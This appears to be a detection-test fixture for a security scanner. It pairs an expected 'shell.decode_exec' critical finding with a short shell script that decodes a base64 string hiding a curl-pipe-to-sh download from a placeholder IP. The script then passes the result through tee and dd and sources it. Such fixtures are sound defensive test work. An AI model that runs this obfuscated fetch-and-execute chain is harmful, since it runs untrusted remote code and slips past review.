# expect: shell.decode_exec critical
# note: a decoded file written by tee, copied by dd, then run
# path: scripts/d.sh
#!/bin/sh
echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo | base64 -d | tee stage1 >/dev/null
dd if=stage1 of=stage2 status=none
. ./stage2
